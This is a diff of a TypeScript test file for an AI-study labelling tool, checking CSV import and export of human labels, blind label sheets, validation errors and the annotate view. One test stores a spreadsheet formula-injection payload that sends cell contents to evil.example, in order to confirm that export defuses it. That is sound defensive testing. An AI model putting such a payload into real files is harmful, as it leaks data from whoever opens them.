@@ -26,6 +26,7 @@ import { listStudyLabels } from '../../src/main/engine/store/labels';
 import { makeTempDir } from '../helpers/temp-dir';
 
 import { KEY, runStudy } from '../helpers/bundle-study';
+import { engineStore } from '../../src/main/engine/engine-store';
 
 describe('labels as CSV and the mechanism commands', () => {
   const dirs = { a: makeTempDir(), b: makeTempDir(), files: makeTempDir() };
@@ -38,15 +39,15 @@ describe('labels as CSV and the mechanism commands', () => {
     vi.stubEnv('ANTHROPIC_API_KEY', KEY);
     a = createEngine({ path: dirs.a.path, source: 'flag' });
     b = createEngine({ path: dirs.b.path, source: 'flag' });
-    studyId = await runStudy(a.store);
-    await classifyStudy(a.store, studyId);
-    const [first] = findFlippedReps(a.store, studyId);
+    studyId = await runStudy(engineStore(a));
+    await classifyStudy(engineStore(a), studyId);
+    const [first] = findFlippedReps(engineStore(a), studyId);
     importLabelsCsv(
-      a.store,
+      engineStore(a),
       `rep_id,annotator,label,sub_mode,rationale\n${first!.repId},ann,over_trust,deference,"defers, plainly"\n`,
     );
-    exportBundle(a.store, studyId, bundleFile);
-    openBundle(b.store, bundleFile);
+    exportBundle(engineStore(a), studyId, bundleFile);
+    openBundle(engineStore(b), bundleFile);
   });
   afterAll(() => {
     vi.unstubAllEnvs();
@@ -56,49 +57,52 @@ describe('labels as CSV and the mechanism commands', () => {
   });
 
   it('round-trips human labels through CSV and writes a blind sheet', () => {
-    const csv = exportLabelsCsv(a.store, studyId);
+    const csv = exportLabelsCsv(engineStore(a), studyId);
     expect(csv.split('\r\n')[0]).toBe(
       'rep_id,annotator,label,sub_mode,rationale,source,kind,item_id,judge_id,dataset',
     );
     expect(csv).toContain(
       ',ann,over_trust,deference,"defers, plainly",human:ann,harmful,invoices,deferring,bundle-test',
     );
-    b.store.db.prepare(`DELETE FROM mechanism_labels WHERE source LIKE 'human:%'`).run();
-    expect(importLabelsCsv(b.store, csv)).toMatchObject({ imported: 1, annotators: ['ann'] });
-    expect(listStudyLabels(b.store, studyId, ['human:ann'])).toMatchObject([
+    engineStore(b).db.prepare(`DELETE FROM mechanism_labels WHERE source LIKE 'human:%'`).run();
+    expect(importLabelsCsv(engineStore(b), csv)).toMatchObject({
+      imported: 1,
+      annotators: ['ann'],
+    });
+    expect(listStudyLabels(engineStore(b), studyId, ['human:ann'])).toMatchObject([
       { label: 'over_trust', subMode: 'deference', rationale: 'defers, plainly' },
     ]);
-    expect(exportLabelsCsv(a.store, studyId, { all: true })).toContain(',diff,harmful,');
-    const sheet = labelSheetCsv(a.store, studyId, 'second');
+    expect(exportLabelsCsv(engineStore(a), studyId, { all: true })).toContain(',diff,harmful,');
+    const sheet = labelSheetCsv(engineStore(a), studyId, 'second');
     expect(sheet.trim().split('\r\n')).toHaveLength(4);
     expect(sheet).not.toContain('over_trust');
     const filled = sheet.replace(/,second,,,,/g, ',second,hallucination,,,');
-    expect(importLabelsCsv(a.store, filled).imported).toBe(3);
-    expect(labelSheetCsv(a.store, studyId, 'second').trim().split('\r\n')).toHaveLength(1);
+    expect(importLabelsCsv(engineStore(a), filled).imported).toBe(3);
+    expect(labelSheetCsv(engineStore(a), studyId, 'second').trim().split('\r\n')).toHaveLength(1);
   });
 
   it('writes a formula rationale defused and reads it back as written', () => {
-    const [first] = findFlippedReps(a.store, studyId);
+    const [first] = findFlippedReps(engineStore(a), studyId);
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
     const cell = `"${formula.replace(/"/g, '""')}"`;
     importLabelsCsv(
-      a.store,
+      engineStore(a),
       `rep_id,annotator,label,sub_mode,rationale\n${first!.repId},mallory,hallucination,,${cell}\n`,
     );
-    const csv = exportLabelsCsv(a.store, studyId, { all: true });
+    const csv = exportLabelsCsv(engineStore(a), studyId, { all: true });
     expect(csv).toContain(`,mallory,hallucination,,"'=HYPERLINK(""http://evil.example/?""&A1`);
     expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
-    a.store.db.prepare(`DELETE FROM mechanism_labels WHERE source = 'human:mallory'`).run();
+    engineStore(a).db.prepare(`DELETE FROM mechanism_labels WHERE source = 'human:mallory'`).run();
     const rows = csv.split('\r\n').filter((row, index) => index === 0 || row.includes('mallory'));
-    importLabelsCsv(a.store, rows.join('\n'));
-    expect(listStudyLabels(a.store, studyId, ['human:mallory'])).toMatchObject([
+    importLabelsCsv(engineStore(a), rows.join('\n'));
+    expect(listStudyLabels(engineStore(a), studyId, ['human:mallory'])).toMatchObject([
       { rationale: formula },
     ]);
-    a.store.db.prepare(`DELETE FROM mechanism_labels WHERE source = 'human:mallory'`).run();
+    engineStore(a).db.prepare(`DELETE FROM mechanism_labels WHERE source = 'human:mallory'`).run();
   });
 
   it('rejects a labels file with bad rows whole, every bad row listed by line', () => {
-    const [first, second] = findFlippedReps(a.store, studyId);
+    const [first, second] = findFlippedReps(engineStore(a), studyId);
     const text = [
       'rep_id,annotator,label,sub_mode,rationale',
       `${first!.repId},carol,over_trust,,fine`,
@@ -109,7 +113,7 @@ describe('labels as CSV and the mechanism commands', () => {
       `${second!.repId},"bad/name",over_trust,,`,
     ].join('\n');
     try {
-      importLabelsCsv(a.store, text, 'labels.csv');
+      importLabelsCsv(engineStore(a), text, 'labels.csv');
       expect.unreachable('the file should be rejected');
     } catch (error) {
       expect(error).toBeInstanceOf(LabelsImportError);
@@ -124,26 +128,26 @@ describe('labels as CSV and the mechanism commands', () => {
         'line 7: annotator "bad/name" is not a name (letters, digits, space, ".", "_", "-")',
       ]);
     }
-    expect(listStudyLabels(a.store, studyId, ['human:carol'])).toEqual([]);
+    expect(listStudyLabels(engineStore(a), studyId, ['human:carol'])).toEqual([]);
   });
 
   it('stores one validated human label from the annotate view and shows all labels for results', () => {
-    const [flip] = findFlippedReps(a.store, studyId);
+    const [flip] = findFlippedReps(engineStore(a), studyId);
     const repId = flip!.repId;
-    expect(labellingQueue(a.store, studyId, 'erin')).toMatchObject({ done: 0, total: 3 });
+    expect(labellingQueue(engineStore(a), studyId, 'erin')).toMatchObject({ done: 0, total: 3 });
     expect(() =>
-      saveHumanLabel(a.store, { repId, annotator: 'erin', label: 'lucky_deference' }),
+      saveHumanLabel(engineStore(a), { repId, annotator: 'erin', label: 'lucky_deference' }),
     ).toThrow(/not a harmful-flip mechanism/);
-    saveHumanLabel(a.store, {
+    saveHumanLabel(engineStore(a), {
       repId,
       annotator: 'erin',
       label: 'over_trust',
       subMode: 'deference',
     });
     expect(
-      labellingQueue(a.store, studyId, 'erin').entries.map((entry) => entry.repId),
+      labellingQueue(engineStore(a), studyId, 'erin').entries.map((entry) => entry.repId),
     ).not.toContain(repId);
-    const listed = flipsWithLabels(a.store, studyId).find((entry) => entry.repId === repId);
+    const listed = flipsWithLabels(engineStore(a), studyId).find((entry) => entry.repId === repId);
     expect(listed?.labels['human:erin']).toEqual({ label: 'over_trust', subMode: 'deference' });
     expect(Object.keys(listed?.labels ?? {})).toEqual(expect.arrayContaining(['diff', 'truth']));
   });
